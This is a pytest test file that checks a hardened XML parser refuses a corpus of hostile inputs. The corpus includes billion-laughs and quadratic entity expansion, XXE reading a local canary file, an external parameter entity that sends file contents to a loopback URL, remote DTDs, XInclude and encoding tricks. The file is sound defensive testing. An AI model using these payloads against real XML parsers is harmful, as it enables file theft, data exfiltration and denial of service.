"""The hostile corpus (security.md TST-01, XML-02, XML-05, XML-06, XML-08) against the one parse path.

Every payload is refused twice: as shipped, and with the byte scan switched off, to show that
the hardened parser and the checks after parsing hold on their own. A canary file's content
never shows in any output, and a loopback socket named by the payloads never sees a connection.
"""

from __future__ import annotations

import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

from ctm_plugin.security import xml

CANARY = "CANARY-5f0c1e-never-read"
NS = "urn:mimosa:host:v1"


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """A loopback port the payloads point at; connections would wait in its backlog."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    yield server
    try:
        connection, _address = server.accept()
    except BlockingIOError:
        server.close()
        return
    connection.close()
    server.close()
    pytest.fail("a payload made the parser connect to the loopback listener")


@pytest.fixture(scope="module")
def canary(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("canary") / "secret.txt"
    path.write_text(CANARY)
    return path


def corpus(canary: Path, port: int) -> dict[str, tuple[bytes, int]]:
    """name → (payload, max_bytes)."""
    file_url, http_url = canary.as_uri(), f"http://127.0.0.1:{port}"
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    payloads = {
        "billion laughs": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]><r>&l9;</r>',
        "quadratic blowup": f'<!DOCTYPE r [<!ENTITY a "{"x" * 50_000}">]><r>{"&a;" * 2_000}</r>',
        "external entity, file": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{file_url}">]><r>&x;</r>',
        "external entity, http": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{http_url}/x">]><r>&x;</r>',
        "external parameter entity": (
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{file_url}">'
            f"<!ENTITY % e \"<!ENTITY &#x25; o SYSTEM '{http_url}/?%f;'>\">%e;%o;]><r/>"
        ),
        "SYSTEM DTD": f'<!DOCTYPE r SYSTEM "{http_url}/r.dtd"><r/>',
        "PUBLIC DTD": f'<!DOCTYPE r PUBLIC "-//X//Y" "{file_url}"><r/>',
        "internal entity": '<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>',
        "lower-case doctype": "<!doctype r><r/>",
        "XInclude": (f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{file_url}" parse="text"/></r>'),
        "XInclude 2003": f'<r><i:include xmlns:i="http://www.w3.org/2003/XInclude" href="{http_url}/x"/></r>',
        "300-deep nesting": "<a>" * 300 + "</a>" * 300,
        "oversized body": "<r>" + "x" * (xml.MAX_BYTES + 1) + "</r>",
    }
    found = {name: (text.encode(), xml.MAX_BYTES) for name, text in payloads.items()}
    found["11 MB text node"] = (b"<r>" + b"x" * 11_000_000 + b"</r>", 20_000_000)
    utf16 = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE r [<!ENTITY x SYSTEM "{file_url}">]><r>&x;</r>'
    found["UTF-16 DOCTYPE"] = (utf16.encode("utf-16"), xml.MAX_BYTES)
    found["UTF-16LE DOCTYPE without BOM"] = (utf16.encode("utf-16-le"), xml.MAX_BYTES)
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?><r>é</r>'
    found["declared Latin-1"] = (latin.encode("latin-1"), xml.MAX_BYTES)
    return found


NAMES = list(corpus(Path("/x"), 1))


def refuse(data: bytes, max_bytes: int) -> xml.HostileXML:
    with pytest.raises(xml.HostileXML) as caught:
        xml.parse(data, max_bytes=max_bytes)
    error = caught.value
    for text in (str(error), error.message, repr(error.__cause__)):
        assert CANARY not in text
    return error


@pytest.mark.parametrize("name", NAMES)
def test_the_hostile_corpus_is_refused(name, canary, listener):
    data, max_bytes = corpus(canary, listener.getsockname()[1])[name]
    refuse(data, max_bytes)


@pytest.mark.parametrize("name", NAMES)
def test_without_the_byte_scan_the_parser_and_the_checks_after_it_still_refuse(name, canary, listener, monkeypatch):
    real = xml._refuse_before_parsing
    monkeypatch.setattr(xml, "_refuse_before_parsing", lambda data, max_bytes: None)
    data, max_bytes = corpus(canary, listener.getsockname()[1])[name]
    if name == "oversized body":  # the limit is the scan's alone: nothing else would stop 2 MB + 1
        with pytest.raises(xml.HostileXML):
            real(data, max_bytes)
        return
    refuse(data, max_bytes)


def test_refusals_say_why():
    assert refuse(b"<!DOCTYPE r><r/>", xml.MAX_BYTES).msgid == xml.DECLARATIONS
    assert refuse(b"<r/>  ", 5).params == {"limit": 5}
    assert refuse("<r/>".encode("utf-16"), xml.MAX_BYTES).msgid == xml.NOT_UTF8
    included = b'<r><x:include xmlns:x="http://www.w3.org/2001/XInclude" href="a"/></r>'
    assert refuse(included, xml.MAX_BYTES).msgid == xml.XINCLUDE


def test_an_entity_left_in_the_tree_is_refused():
    root = etree.Element("r")
    root.append(etree.Entity("e"))
    with pytest.raises(xml.HostileXML) as caught:
        xml._refuse_leftovers(root)
    assert caught.value.msgid == xml.ENTITY


def test_a_malformed_document_names_its_line():
    error = refuse(b"<r>\n<a>\n</r>", xml.MAX_BYTES)
    assert isinstance(error, xml.BadXML)
    assert error.msgid == xml.NOT_WELL_FORMED
    assert error.params == {"line": 3}
    assert error.message == "The XML is not well-formed (line 3)."


def test_a_beneficiary_parses_and_loses_its_processing_instructions():
    data = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<Beneficiary xmlns="{NS}"><?php echo 1; ?><BeneficiaryId>BEN-0000123</BeneficiaryId>'
        "<Name><FamilyName>Nguyễn</FamilyName><GivenName>Thị</GivenName></Name><Sex>F</Sex></Beneficiary>"
    ).encode()
    root = xml.parse(data)
    assert root.tag == f"{{{NS}}}Beneficiary"
    assert root.findtext(f"{{{NS}}}Name/{{{NS}}}FamilyName") == "Nguyễn"
    assert [child.tag for child in root] == [f"{{{NS}}}{tag}" for tag in ("BeneficiaryId", "Name", "Sex")]


def test_a_utf8_byte_order_mark_and_an_ascii_declaration_are_fine():
    assert xml.parse(b"\xef\xbb\xbf<r/>").tag == "r"
    assert xml.parse(b"<?xml version='1.0' encoding='US-ASCII'?><r/>").tag == "r"


def test_the_sample_files_of_the_mappings_parse_whole():
    """The hardened path keeps every element, text and attribute of an honest document."""

    def content(root: etree._Element) -> list[tuple]:
        return [(e.tag, (e.text or "").strip(), dict(e.attrib)) for e in root.iter(etree.Element)]

    samples = sorted((Path(__file__).parents[1] / "mappings" / "testdata").glob("*.xml"))
    assert samples
    for path in samples:
        data = path.read_bytes()
        plain = etree.fromstring(data)
        assert len(content(plain)) > 1, path.name
        assert content(xml.parse(data)) == content(plain), path.name
